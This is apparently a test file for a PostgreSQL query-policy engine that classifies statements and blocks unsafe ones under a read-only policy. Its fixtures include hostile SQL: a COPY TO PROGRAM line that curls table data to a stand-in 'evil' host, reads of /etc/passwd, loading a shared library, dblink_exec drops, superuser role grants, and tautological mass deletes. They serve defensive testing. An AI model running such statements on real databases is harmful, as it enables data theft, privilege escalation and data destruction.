/**
 * Given the read-only automation policy, when a statement of each SQL class
 * arrives, then the analysis classifies it and the verdict follows.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { command, givenPolicy, whenSql } from './given.ts';
import { evaluate } from '../src/evaluate.ts';
import { readOnlyAutomation } from './policies.ts';

const policy = givenPolicy(readOnlyAutomation);

type Case = [sql: string, classes: string[], effect: 'allow' | 'mask' | 'block' | 'hold'];

const cases: Record<string, Case[]> = {
  read: [
    ['SELECT id, total FROM orders WHERE id = 1', ['read'], 'mask'],
    ['SELECT count(*) FROM orders', ['read'], 'mask'],
    ['VALUES (1), (2)', ['read'], 'mask'],
    ['TABLE orders', ['read'], 'mask'],
  ],
  write: [
    ["INSERT INTO orders (id, status) VALUES (1, 'new')", ['write'], 'hold'],
    ["UPDATE orders SET status = 'x' WHERE id = 1", ['write'], 'hold'],
    ['DELETE FROM orders WHERE id = 1', ['write'], 'hold'],
    ['INSERT INTO archive SELECT * FROM orders WHERE id < 10', ['write'], 'hold'],
  ],
  ddl: [
    ['CREATE TABLE t (id int)', ['ddl'], 'block'],
    ['DROP TABLE orders', ['ddl'], 'block'],
    ['ALTER TABLE orders ADD COLUMN x int', ['ddl'], 'block'],
    ['CREATE INDEX ON orders (id)', ['ddl'], 'block'],
    ['SELECT * INTO copy_of_orders FROM orders', ['ddl'], 'block'],
    ['CREATE TABLE c AS SELECT * FROM customers', ['ddl'], 'block'],
  ],
  dcl: [
    ['GRANT SELECT ON orders TO public', ['dcl'], 'block'],
    ['REVOKE ALL ON orders FROM bob', ['dcl'], 'block'],
    ['CREATE ROLE intruder LOGIN SUPERUSER', ['dcl'], 'block'],
    ['ALTER ROLE bob SUPERUSER', ['dcl'], 'block'],
    ['GRANT pg_read_server_files TO bob', ['dcl'], 'block'],
  ],
  'unbounded write': [
    ['DELETE FROM orders', ['write', 'unbounded-write'], 'block'],
    ["UPDATE orders SET status = 'x'", ['write', 'unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE true', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE 1=1', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE 2>1', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE NOT false', ['unbounded-write'], 'block'],
    ["DELETE FROM orders WHERE 'a'='a'", ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE true OR id=1', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE id = 1 OR 1 < 2', ['unbounded-write'], 'block'],
    ["UPDATE orders SET x = 1 WHERE 't'::boolean", ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE 1 IN (1, 2)', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE NULL IS NULL', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE 3 BETWEEN 1 AND 5', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE id = id', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE EXISTS (SELECT 1)', ['unbounded-write'], 'block'],
    ['DELETE FROM orders WHERE 1 + 1 = 2', ['unbounded-write'], 'block'],
    ['TRUNCATE orders', ['write', 'unbounded-write'], 'block'],
    ['MERGE INTO orders o USING incoming i ON o.id = i.id WHEN MATCHED THEN DELETE', ['write', 'unbounded-write'], 'block'],
    ["MERGE INTO orders o USING incoming i ON true WHEN MATCHED THEN UPDATE SET status = 'x'", ['unbounded-write'], 'block'],
  ],
  'session change': [
    ['SET ROLE postgres', ['session-change'], 'block'],
    ['SET LOCAL ROLE postgres', ['session-change'], 'block'],
    ["SET SESSION AUTHORIZATION 'postgres'", ['session-change'], 'block'],
    ['RESET ROLE', ['session-change'], 'block'],
    ['RESET ALL', ['session-change'], 'block'],
    ["SELECT set_config('role', 'postgres', false)", ['session-change'], 'block'],
    ["SELECT set_config(name, 'x', false) FROM settings", ['session-change'], 'block'],
    ['SET search_path = evil, pg_catalog', ['session-change'], 'block'],
    ['DISCARD ALL', ['session-change'], 'block'],
  ],
  'file access': [
    ["COPY orders TO PROGRAM 'curl -d @- http://evil'", ['file-access'], 'block'],
    ["COPY orders FROM PROGRAM 'id'", ['file-access'], 'block'],
    ["COPY orders TO '/tmp/orders.csv'", ['file-access'], 'block'],
    ["COPY orders FROM '/etc/passwd'", ['file-access'], 'block'],
    ["SELECT pg_read_file('/etc/passwd')", ['file-access'], 'block'],
    ["SELECT pg_read_binary_file('/etc/passwd')", ['file-access'], 'block'],
    ["SELECT * FROM pg_ls_dir('/')", ['file-access'], 'block'],
    ["SELECT lo_import('/etc/passwd')", ['file-access'], 'block'],
    ["SELECT lo_export(1234, '/tmp/x')", ['file-access'], 'block'],
    ["LOAD '/tmp/evil.so'", ['file-access'], 'block'],
  ],
  'admin functions': [
    ['SELECT pg_terminate_backend(4242)', ['admin-function'], 'block'],
    ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', ['admin-function'], 'block'],
    ['SELECT pg_reload_conf()', ['admin-function'], 'block'],
  ],
  'remote execution': [
    ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", ['remote-execution'], 'block'],
    ["SELECT dblink_exec('host=evil', 'DROP TABLE x')", ['remote-execution'], 'block'],
    ["SELECT public.dblink_exec('host=evil', 'DROP TABLE x')", ['remote-execution'], 'block'],
  ],
  'dynamic SQL': [
    ["DO $$ BEGIN EXECUTE 'DELETE FROM orders'; END $$", ['dynamic-sql', 'unbounded-write'], 'block'],
    ["DO $$ BEGIN PERFORM 1; END $$", ['dynamic-sql'], 'block'],
    ["DO $$ BEGIN EXECUTE 'SELECT 1'; END $$", ['dynamic-sql', 'read'], 'block'],
    ["DO $$ DECLARE t text := 'orders'; BEGIN EXECUTE 'DELETE FROM ' || t; END $$", ['non-literal-dynamic-sql'], 'block'],
    ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'orders'); END $$", ['non-literal-dynamic-sql'], 'block'],
    ["DO LANGUAGE plpython3u $$ import os $$", ['non-literal-dynamic-sql'], 'block'],
    ["SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')", ['dynamic-sql', 'unbounded-write'], 'block'],
    ["SELECT query_to_xml(q, true, false, '') FROM queries", ['non-literal-dynamic-sql'], 'block'],
  ],
  'routine calls': [
    ['CALL refresh_everything()', ['routine-call'], 'block'],
    ['SELECT my_function(1)', ['routine-call'], 'block'],
    ['SELECT app.compute(id) FROM orders', ['routine-call'], 'block'],
    ['SELECT lower(status), now(), count(*) FROM orders GROUP BY 1', ['read'], 'mask'],
  ],
  'writable CTEs': [
    ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', ['read', 'write'], 'block'],
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d', ['write', 'unbounded-write'], 'block'],
    ["WITH u AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u", ['write'], 'block'],
  ],
  'transactions and prepared statements': [
    ['BEGIN', ['transaction'], 'mask'],
    ['COMMIT', ['transaction'], 'mask'],
    ['PREPARE q AS SELECT * FROM orders WHERE id = $1', ['prepare', 'read'], 'mask'],
    ['PREPARE q AS DELETE FROM orders', ['prepare', 'unbounded-write'], 'block'],
    ['DEALLOCATE ALL', ['prepare'], 'mask'],
  ],
};

for (const [group, list] of Object.entries(cases)) {
  describe(`SQL class: ${group}`, () => {
    for (const [text, classes, effect] of list) {
      it(`${text} → ${classes.join('+')}, ${effect}`, async () => {
        const { decision, analysis } = await whenSql(policy, text);
        assert.ok(analysis.ok, `analysis failed: ${!analysis.ok ? analysis.error : ''}`);
        for (const c of classes) assert.ok(decision.classes.includes(c), `classes ${JSON.stringify(decision.classes)} lack ${c}`);
        assert.equal(decision.effect, effect, `reasons: ${decision.reasons.join('; ')}`);
      });
    }
  });
}

describe('SQL: tables and functions are reported schema-qualified where the statement qualifies them', () => {
  it('reports public.customers and pg_catalog.lower', async () => {
    const { analysis } = await whenSql(policy, 'SELECT pg_catalog.lower(c.email) FROM public.customers c JOIN orders o ON o.customer_id = c.id');
    assert.ok(analysis.ok && analysis.kind === 'sql');
    assert.deepEqual(analysis.statements[0]!.tables.sort(), ['orders', 'public.customers']);
    assert.deepEqual(analysis.statements[0]!.functions, ['pg_catalog.lower']);
  });
});

describe('SQL: unparseable', () => {
  it('blocks with the reason "unparseable" and PostgreSQL\'s own syntax error, position counted from 1', async () => {
    const { decision } = await whenSql(policy, 'SELEC * FROM orders');
    assert.equal(decision.effect, 'block');
    assert.match(decision.reasons[0]!, /^unparseable: syntax error/);
    assert.deepEqual(decision.syntaxError, { message: 'syntax error at or near "SELEC"', position: 1 });
  });
  it('counts the position in characters, as PostgreSQL does, past multibyte ones', async () => {
    const { decision } = await whenSql(policy, "SELECT 'é' FROM orders WHERE");
    assert.deepEqual(decision.syntaxError, { message: 'syntax error at end of input', position: 29 });
  });
  it('a syntax error in a later statement of the string blocks the whole string', async () => {
    const { decision } = await whenSql(policy, 'SELECT 1; DELET FROM orders');
    assert.equal(decision.effect, 'block');
    assert.deepEqual(decision.syntaxError, { message: 'syntax error at or near "DELET"', position: 11 });
  });
  it('blocks a DO block whose PL/pgSQL does not parse, as a policy refusal: PostgreSQL parses the DO itself', async () => {
    const { decision } = await whenSql(policy, 'DO $$ BEGIN EXECUTE; END $$');
    assert.equal(decision.effect, 'block');
    assert.match(decision.reasons[0]!, /^unparseable/);
    assert.equal(decision.syntaxError, undefined);
  });
  it('a FunctionCall message (no SQL text) is refused by policy, never answered as a syntax error', async () => {
    const { decision } = await evaluate(command({ kind: 'sql', text: 'FunctionCall(2964)', phase: 'function-call', functionOid: 2964 }), policy);
    assert.equal(decision.effect, 'block');
    assert.equal(decision.syntaxError, undefined);
  });
  it('an EXECUTE of a statement nobody prepared is no syntax error either', async () => {
    const { decision } = await whenSql(policy, 'EXECUTE nobody_prepared_me');
    assert.equal(decision.effect, 'block');
    assert.equal(decision.syntaxError, undefined);
  });
});

describe('SQL: no statement at all', () => {
  for (const text of ['', ' ', ';', '-- only a comment', '/* a */ ; ;']) {
    it(`${JSON.stringify(text)} is allowed whatever the default: the target runs nothing and answers EmptyQueryResponse`, async () => {
      const { decision, analysis } = await whenSql(policy, text);
      assert.ok(analysis.ok && analysis.kind === 'sql');
      assert.equal(analysis.statements.length, 0);
      assert.equal(decision.effect, 'allow');
      assert.deepEqual(decision.reasons, ['no SQL statement in the command: nothing runs']);
    });
  }
});
